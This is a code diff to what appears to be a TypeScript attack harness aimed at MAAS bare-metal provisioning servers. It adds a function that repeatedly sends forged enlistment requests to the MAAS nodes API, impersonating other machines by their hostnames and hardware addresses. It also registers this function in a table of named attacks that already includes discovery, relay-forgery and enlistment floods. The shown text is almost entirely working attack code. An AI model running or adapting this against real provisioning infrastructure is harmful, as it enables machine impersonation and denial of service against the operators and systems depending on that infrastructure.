@@ -147,6 +147,22 @@ const enlistment = (): string => {
   return `op=new&architecture=amd64%2Fgeneric&mac_addresses=02:${octets}`.replaceAll(':', '%3A');
 };
 
+/** Reports machines that are others, one after another: `name=hardware address` each. */
+async function enlistAsOthers(others: readonly string[]): Promise<void> {
+  for (let index = 0; !isOver(); index += 1) {
+    const [hostname = '', mac = ''] = (others[index % others.length] ?? '').split('=');
+    const form = { op: 'new', architecture: 'amd64/generic', hostname, mac_addresses: mac };
+    const body = new URLSearchParams(form).toString();
+    const more = [FORM, `Content-Length: ${body.length}`, 'Connection: close'];
+    const socket = connect({ host: rack, port: BOOT_PORT, localAddress: first });
+    socket.on('error', () => undefined);
+    socket.resume();
+    socket.write(`${headers('/MAAS/api/1.0/nodes/', more)}${body}`);
+    if (index >= others.length) tell();
+    await sleep(100);
+  }
+}
+
 const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'discover-flood': () => discoverFlood(1000),
   'forged-relay': () => forgeRelay(500),
@@ -212,6 +228,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
         `GET /MAAS/api/2.0/events/?op=follow HTTP/1.1\r\nHost: ${rack}\r\nAuthorization: ${authorization(further)}\r\n\r\n`,
       ),
     ),
+  'enlist-as-others': () => enlistAsOthers(further.split(',')),
   'enlist-flood': () =>
     holdConnections(BOOT_PORT, 64, (socket) => {
       const body = enlistment();
